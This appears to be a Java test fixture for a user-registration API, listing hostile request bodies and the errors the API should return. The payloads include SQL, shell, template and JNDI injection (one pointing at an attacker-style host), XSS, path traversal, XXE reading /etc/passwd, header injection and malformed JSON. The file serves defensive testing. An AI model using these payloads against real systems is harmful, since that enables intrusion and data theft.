package org.registrationapi.http;

import static org.registrationapi.http.HostileRequest.bytes;
import static org.registrationapi.http.HostileRequest.json;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

/** Hostile bodies: injections in every field, oversized JSON and invalid JSON. */
final class HostileBodies {
  /** Text that some interpreter would execute; a name may contain it. */
  static final List<String> INJECTIONS =
      List.of(
          "Robert'); drop table users;--",
          "' or '1'='1",
          "1; select pg_sleep(10)",
          "'||(select password_hash from users limit 1)||'",
          "*)(uid=*))(|(uid=*",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}${7*7}{{7*7}}<%= 7*7 %>",
          "<script>alert(1)</script>",
          "\\\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "; cat /etc/passwd |",
          "$(touch /tmp/owned)",
          "../../../../etc/passwd",
          "%0d%0aSet-Cookie: a=b",
          "%s%n%x%p",
          "@import 'https://evil.example'",
          "=cmd|' /C calc'!A0",
          "__proto__");

  /** Text with characters that a line of text may not contain. */
  private static final List<String> UNPRINTABLE =
      List.of(
          "Ada\\r\\nSet-Cookie: a=b",
          "Ada\\nBcc: eve@example.com",
          "Ada\\u0000",
          "\\u001b[2J",
          "\\u202egpj.exe",
          "\\u2066Ada\\u2069",
          "\\u2028Ada",
          "\\ud800",
          "\\udc00\\ud800",
          "\\u007f",
          "\\u0085Ada");

  private static final List<String> INVALID_EMAILS =
      List.of(
          "ada@example.com' or '1'='1",
          "ada'--@",
          "ada@example.com; drop table users",
          "ada@example.com%00",
          "ada@example.com\\u0000",
          "ada@example.com\\r\\nBcc: eve@example.com",
          "ada\\n@example.com",
          "ada@exam\\u0000ple.com",
          "ada@example.com,eve@example.com",
          "ada@example.com;eve@example.com",
          "ada@example.com eve@example.com",
          "<ada@example.com>",
          "Ada <ada@example.com>",
          "ada@<script>alert(1)</script>.com",
          "<script>@example.com",
          "${jndi:ldap://evil}@example",
          "ada@{{7*7}}.com",
          "ada(comment)@example.com",
          "\\\"ada\\\"@example.com",
          "ada@[127.0.0.1]",
          "ada@[IPv6:::1]",
          "ada@127.0.0.1",
          "@a.example,@b.example:ada@example.com",
          "ada@@example.com",
          "ada@example..com",
          ".ada@example.com",
          "ada.@example.com",
          "a..da@example.com",
          "ada@-example.com",
          "ada@example-.com",
          "ada@example",
          "ada@.com",
          "ada@",
          "@example.com",
          "@",
          "ada",
          "",
          " ",
          "\\u200bada@example.com",
          "\\u0430da@example.com",
          "ada\\u202e@example.com",
          "ada@exa\\u202emple.com",
          "ada@example\\u3002com\\u0000",
          "ada@stra\\u00dfe.example",
          "ada@exa\\u200dmple.com",
          "\\ud83d\\ude00@example.com",
          "ada@\\ud800.com",
          "ada@xn--zz--zz--",
          "ada@exa mple.com",
          "ada@example.com/../eve",
          "ada\\\\@example.com",
          "*)(mail=*@example",
          "ada@*");

  private static final List<String> INVALID_JSON =
      List.of(
          "",
          " ",
          "null",
          "true",
          "0",
          "[]",
          "\"text\"",
          "{",
          "}",
          "{]",
          "{}{}",
          "{},",
          "{\"a\"}",
          "{a:1}",
          "{'a':1}",
          "{\"a\":1,}",
          "{\"a\":01}",
          "{\"a\":+1}",
          "{\"a\":.5}",
          "{\"a\":1.}",
          "{\"a\":0x10}",
          "{\"a\":NaN}",
          "{\"a\":Infinity}",
          "{\"a\":-}",
          "{\"a\":tru}",
          "{\"a\":\"\\x41\"}",
          "{\"a\":\"\\u12\"}",
          "{\"a\":\"unterminated}",
          "{\"a\":1}//comment",
          "/*c*/{\"a\":1}",
          "#{}",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
          "email=ada@example.com&password=x",
          "--- !!javax.script.ScriptEngineManager []",
          "{\"email\":\"a\",\"email\":\"b\"}",
          "{\"\\u0065mail\":\"a\",\"email\":\"b\"}",
          "{\"a\":".repeat(6) + "1" + "}".repeat(6),
          "{\"a\":".repeat(2_000),
          "[".repeat(16_000),
          "{\"a\":" + "[".repeat(10_000),
          "{\"a\":" + "9".repeat(1_001) + "}",
          "{\"a\":1e" + "9".repeat(1_001) + "}",
          "{\"email\": \"ada@example.com\", \"password\": \"correct horse battery\"");

  /** Bytes in a text that are not valid UTF-8. */
  private static final List<String> INVALID_UTF_8 =
      List.of(
          "\u00c0\u00af",
          "\u00c0\u0080",
          "\u00c1\u00bf",
          "\u00e0\u0080\u00af",
          "\u00f0\u0080\u0080\u00af",
          "\u00f8\u0088\u0080\u0080\u00af",
          "\u00ed\u00a0\u0080",
          "\u00ed\u00b0\u0080",
          "\u00f4\u0090\u0080\u0080",
          "\u00ff",
          "\u00fe\u00ff",
          "\u0080",
          "\u00c3",
          "\u00e2\u0082",
          "\u00e9");

  private static final List<String> UNKNOWN_FIELDS =
      List.of(
          "__proto__",
          "constructor",
          "prototype",
          "@class",
          "@type",
          "$type",
          "class",
          "id",
          "server",
          "server_id",
          "is_activated",
          "time_activated",
          "password_hash",
          "emailKey",
          "Email",
          "email ",
          "<script>alert(1)</script>",
          "' or 1=1",
          "",
          "$where");

  private static final List<String> NON_TEXT_VALUES =
      List.of("1", "1.5", "true", "[]", "{}", "[\"a\"]", "1e400");

  private HostileBodies() {}

  static Stream<HostileRequest> all() {
    return Stream.of(names(), addresses(), malformed(), fields(), adminRoutes())
        .flatMap(List::stream);
  }

  private static String user(String field, String value) {
    return "{\"email\": \"h-%s@example.com\", \"password\": \"correct horse battery\", \"%s\": %s}"
        .formatted(UUID.randomUUID(), field, value);
  }

  private static String quoted(String text) {
    return "\"" + text + "\"";
  }

  private static List<HostileRequest> names() {
    var all = new ArrayList<HostileRequest>();
    for (var text : INJECTIONS) {
      all.add(json("POST", "/users", user("first_name", quoted(text)), "201"));
      all.add(
          json("POST", "/users", user("birth_date", quoted(text)), "422 birth_date invalid_date"));
      all.add(json("POST", "/users", user("locale", quoted(text)), "422 locale invalid_locale"));
    }
    for (var text : UNPRINTABLE)
      all.add(
          json(
              "POST",
              "/users",
              user("last_name", quoted(text)),
              "422 last_name control_character"));
    return all;
  }

  private static List<HostileRequest> addresses() {
    var all = new ArrayList<HostileRequest>();
    for (var text : INVALID_EMAILS)
      all.add(
          json(
              "POST",
              "/users",
              "{\"email\": \"" + text + "\", \"password\": \"correct horse battery\"}",
              "422 email invalid_email"));
    return all;
  }

  private static List<HostileRequest> malformed() {
    var all = new ArrayList<HostileRequest>();
    for (var body : INVALID_JSON) all.add(json("POST", "/users", body, "400 malformed_json"));
    for (var text : INVALID_UTF_8)
      all.add(bytes("POST", "/users", "{\"email\": \"" + text + "\"}", "400 malformed_json"));
    all.add(
        json("POST", "/users", "{\"a\": \"" + "a".repeat(16_500) + "\"}", "413 body_too_large"));
    all.add(bytes("POST", "/users", "\0".repeat(20_000), "413 body_too_large"));
    all.add(json("PATCH", "/users/nobody@example.com", "[]", "400 malformed_json"));
    all.add(json("POST", "/validation", "[]", "400 malformed_json"));
    return all;
  }

  private static List<HostileRequest> fields() {
    var all = new ArrayList<HostileRequest>();
    for (var field : UNKNOWN_FIELDS) {
      var harmless = field.matches("[A-Za-z0-9_]+") ? field : "?";
      all.add(json("POST", "/users", user(field, "1"), "422 " + harmless + " unknown_field"));
    }
    for (var value : NON_TEXT_VALUES) {
      all.add(json("POST", "/users", user("first_name", value), "422 first_name wrong_type"));
      all.add(
          json(
              "POST",
              "/users",
              "{\"email\": " + value + ", \"password\": \"correct horse battery\"}",
              "422 email wrong_type"));
      all.add(
          json(
              "POST",
              "/validation",
              "{\"email\": \"nobody@example.com\", \"pin_code\": " + value + "}",
              "422 pin_code wrong_type"));
    }
    return all;
  }

  private static List<HostileRequest> adminRoutes() {
    var all = new ArrayList<HostileRequest>();
    for (var text : INJECTIONS) {
      all.add(
          json("POST", "/servers", "{\"name\": \"" + text + "\"}", "422 name invalid_name")
              .byAdmin());
      all.add(
          json(
                  "POST",
                  "/servers",
                  "{\"name\": \"hostile\", \"redirect_url\": \"" + text + "\"}",
                  "422 redirect_url invalid_url")
              .byAdmin());
    }
    return all;
  }
}
